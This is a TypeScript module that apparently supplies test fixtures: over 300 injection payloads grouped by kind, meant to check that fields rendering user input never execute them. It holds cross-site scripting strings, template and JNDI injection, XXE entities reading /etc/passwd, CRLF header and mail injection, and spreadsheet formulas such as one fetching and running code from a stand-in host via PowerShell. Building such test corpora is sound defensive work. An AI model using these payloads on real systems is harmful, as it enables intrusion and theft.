/** What a payload sets in a page, calls, or asks for when it runs: nothing of it may ever be seen. */
export const ranMark = "__ran";
export const payloadHost = "payload.invalid";

const run = `window.${ranMark}=1;alert(1)`;
const away = `//${payloadHost}/x`;

export type PayloadKind =
  | "SCRIPT"
  | "HANDLER"
  | "ADDRESS"
  | "VECTOR_IMAGE"
  | "STYLE"
  | "TEMPLATE"
  | "XML"
  | "LITERAL"
  | "FORMULA"
  | "LINE_BREAK"
  | "UNICODE";

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<script\t/**/>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script>${run}`,
  `<script type=module>${run}</script>`,
  `<script type="text/javascript">${run}</script>`,
  `<script src=${away}.js></script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script async defer src='https:${away}'></script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `<!--><script>${run}</script>`,
  `<!-- --!><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</noscript><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</ script ><script>${run}</script>`,
  `</xmp></iframe></noembed><script>${run}</script>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `<template><script>${run}</script></template>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<base href="https:${away}/"><script src=x.js></script>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv="refresh" content="0;url=https:${away}">`,
  `<form><button formaction="javascript:${run}">x</button></form>`,
  `<form id=x action="javascript:${run}"></form><button form=x>x</button>`,
  `<link rel=stylesheet href=https:${away}.css>`,
  `<link rel=import href=https:${away}>`,
  `<img src=https:${away}.gif>`,
];

const handlers = [
  ["img src=x", "onerror"],
  ["img srcset=x", "onerror"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["svg", "onload"],
  ["iframe", "onload"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["video><source", "onerror"],
  ["object data=x", "onerror"],
  ["embed src=x", "onload"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["marquee", "onstart"],
  ["style", "onload"],
  ["link rel=stylesheet href=data:,", "onload"],
  ["div style=animation-name:x", "onanimationstart"],
  ["x tabindex=1 id=x", "onfocus"],
  ["a href=#", "onmouseover"],
].flatMap(([tag, event]) => [
  `<${tag} ${event}=${run.replace(";", ",")}>`,
  `<${tag} ${event}="${run}">`,
  `"><${String(tag).toUpperCase()} ${String(event).toUpperCase()}='${run}'>`,
  `<${String(tag).replaceAll(" ", "/")}/${event}="${run}"//`,
]);

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\tjavascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\r\nscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;avascript&#58;${run}`,
  `javascript://%0a${run}`,
  `javascript:/*--></title></style></textarea></script>*/${run}`,
  `javascript:'<script>${run}</script>'`,
  `data:text/html,<script>${run}</script>`,
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTthbGVydCgxKTwvc2NyaXB0Pg==",
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `vbscript:msgbox("${ranMark}")`,
  `livescript:${run}`,
  `feed:javascript:${run}`,
  `view-source:javascript:${run}`,
  `https://user:javascript@${payloadHost}/`,
  `//${payloadHost}/%0d%0aSet-Cookie:${ranMark}=1`,
  `\\\\${payloadHost}\\share\\x`,
  `file:///etc/passwd?${ranMark}`,
];
const addresses = schemes.flatMap((address) => [
  address,
  `<a href="${address}" autofocus>x</a>`,
  `<iframe src='${address}'></iframe>`,
]);

const vectorImages = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script xlink:href=data:,${run} /></svg>`,
  `<svg><script href="https:${away}.js"/></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><set onbegin="${run}" attributeName=x>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><body onload="${run}"></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${run}"></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run.replace(";", ",")}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype="statusline#https:${away}" xlink:href="javascript:${run}">x</maction></math>`,
  `<image src=x onerror="${run}">`,
];

const styles = [
  `<style>@import "https:${away}.css";</style>`,
  `<style>*{background:url("https:${away}.png")}</style>`,
  `<div style="background:url(javascript:${run})">`,
  `<div style="width:expression(${run})">`,
  `<div style="-moz-binding:url(https:${away}.xml#x)">`,
  `<p style="behavior:url(https:${away}.htc)">`,
  `<table background="javascript:${run}">`,
  `<style>@font-face{font-family:x;src:url(https:${away}.woff)}body{font-family:x}</style>`,
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{$on.constructor('${run}')()}}`,
  "{{7*7}}{{_self.env.display('x')}}",
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `<% ${run} %>`,
  `{% raw %}${run}{% endraw %}`,
  `{%- set x = cycler.__init__.__globals__ -%}{{ x.${ranMark} }}`,
  `[[\${${run}}]]`,
  `@{${run}}`,
  `*{${run}}`,
  `{{{<script>${run}</script>}}}`,
  `<div ng-app ng-init="constructor.constructor('${run}')()">`,
  `<div v-html="'<img src=x onerror=${run}>'">`,
  `<div x-data x-init="${run}">`,
  `<?php echo '${ranMark}'; ?>`,
  `<!--#exec cmd="echo ${ranMark}" -->`,
  `\${jndi:ldap://${payloadHost}/x}`,
  `%24%7B${ranMark}%7D`,
];

const xml = [
  `]]><script>${run}</script>`,
  `]]>]]><script xmlns="http://www.w3.org/1999/xhtml">${run}</script><![CDATA[`,
  `]]></title></entry><entry><title>${ranMark}</title></entry><![CDATA[`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<!DOCTYPE x [<!ENTITY % e SYSTEM "https:${away}.dtd"> %e;]>`,
  `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><x>&c;</x>`,
  `<?xml version="1.0"?><!DOCTYPE x SYSTEM "https:${away}.dtd"><x/>`,
  `<?xml-stylesheet type="text/xsl" href="https:${away}.xsl"?>`,
  `<?xml-stylesheet type="text/css" href="data:text/css,*{background:url(https:${away})}"?>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  `<html:img xmlns:html="http://www.w3.org/1999/xhtml" src="x" onerror="${run}"/>`,
  `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `<xsl:script xmlns:xsl="http://www.w3.org/TR/WD-xsl">${run}</xsl:script>`,
  "&undefined;&#0;&#x1F;&#xFFFF;",
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=&#x22;${run}&#x22;&#x3e;`,
  `--><!-- ${ranMark} --`,
  `"/><link rel="alternate" href="javascript:${run}`,
];

const literals = [
  `</script><script>${run}</script>`.replace("script", "SCRIPT"),
  `"};${run};var x={"`,
  `'};${run};//`,
  `";${run};//`,
  `';${run};//`,
  `\`;${run};//`,
  `\\";${run};//`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${run}`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `*/${run}/*`,
  `-${run.replace(";", ",")}-`,
  `"-${run.replace(";", ",")}-"`,
  `<!--<script>${run}`,
  `<!--<script></script>${run}`,
  `\u2028${run}\u2029`,
  `","@type":"Thing","url":"javascript:${run}`,
  `"}]}</script><img src=x onerror="${run}">`,
  `{"__proto__":{"${ranMark}":1}}`,
  "__proto__",
  "constructor",
  `'; DROP TABLE company; -- ${ranMark}`,
  `" } ) { id } } # ${ranMark}`,
];

const formulaBodies = [
  "cmd|'/C calc'!A0",
  "cmd|' /C powershell IEX(wget payload.invalid/x)'!A0",
  `HYPERLINK("http://${payloadHost}/?"&A1,"x")`,
  `IMPORTXML("http://${payloadHost}/?"&A1,"//a")`,
  `WEBSERVICE("http://${payloadHost}/"&A1)`,
  `IMAGE("http://${payloadHost}/x.png")`,
  'DDE("cmd";"/C calc";"x")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  "1+1",
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
];
const formulas = [
  ...formulaBodies.flatMap((body) => [`=${body}`, `+${body}`, `-${body}`, `@${body}`]),
  ...[
    "\t=",
    "\r=",
    "\n=",
    "\r\n=",
    " =",
    "\u00a0=",
    "\u200b=",
    "\u202e=",
    "\ufeff=",
    "'=",
    '"=',
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\u2212",
    "%",
    "|",
    "_x003D_",
    "_x003d_",
    "\u0000=",
    "=-+-+-",
    "x\n=",
    "x;=",
    "x,=",
    'x","=',
  ].map((before) => `${before}cmd|'/C calc'!A0`),
];

const lineBreaks = [
  `x\r\nBcc: ${ranMark}@${payloadHost}`,
  `x\nBcc: ${ranMark}@${payloadHost}`,
  `x\rBcc: ${ranMark}@${payloadHost}`,
  `x\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
  `x\r\n\r\n<script>${run}</script>`,
  `x%0d%0aBcc: ${ranMark}@${payloadHost}`,
  `x\r\n.\r\nMAIL FROM:<${ranMark}@${payloadHost}>`,
  `=?utf-8?q?x=0D=0ABcc:_${ranMark}=40${payloadHost}?=`,
  `"x\r\n"@${payloadHost}`,
  `x\u2028Bcc: ${ranMark}@${payloadHost}`,
  `x\u0085Bcc: ${ranMark}@${payloadHost}`,
  `x\u000bBcc: ${ranMark}@${payloadHost}`,
  `x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:${ranMark}`,
  `x\nATTACH:https:${away}`,
  `x\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh\r\nEND:VALARM`,
  `x\rURL:javascript:${run}`,
  `x\\nORGANIZER:mailto:${ranMark}@${payloadHost}`,
  `x\r\n X-FOLDED:${ranMark}`,
  `x;ALTREP="https:${away}":y`,
  `x\r\nSet-Cookie: ${ranMark}=1`,
  `x\r\nLocation: https:${away}`,
  `x"; filename="${ranMark}.exe`,
];

const unicode = [
  `\u202e>tpircs<${run}`,
  `\u2066${ranMark}\u2069`,
  `annexe\u202Efdp.exe`,
  `\u0000<script>${run}</script>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<img src=x onerror\u0000="${run}">`,
  `\ud800<script>${run}</script>`,
  `\udc00\ud800`,
  `x\ud83d`,
  `\ufeff<script>${run}</script>`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `\ufe64script\ufe65${run}`,
  `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<\u0073cript>${run}</\u0073cript>`,
  `\u001b]0;${ranMark}\u0007`,
  `\u001b[31m${ranMark}`,
  `\ufffe\uffff${ranMark}`,
  `\u{1fffe}${ranMark}`,
  `a${"\u0300".repeat(60)}`,
  `\u200b\u200c\u200d${ranMark}`,
  `\u0085<script>${run}</script>`,
  `\u{e0001}\u{e0073}\u{e0063}`,
  "Z".repeat(3000),
  "w w ".repeat(700),
];

const byKind: Readonly<Record<PayloadKind, readonly string[]>> = {
  SCRIPT: scripts,
  HANDLER: handlers,
  ADDRESS: addresses,
  VECTOR_IMAGE: vectorImages,
  STYLE: styles,
  TEMPLATE: templates,
  XML: xml,
  LITERAL: literals,
  FORMULA: formulas,
  LINE_BREAK: lineBreaks,
  UNICODE: unicode,
};

/** What people could write into a field so that it runs where the field is shown: more than 300, all different. */
export const payloads: readonly string[] = [...new Set(Object.values(byKind).flat())];

/** Those of one kind. */
export function payloadsOf(kind: PayloadKind): readonly string[] {
  return byKind[kind];
}
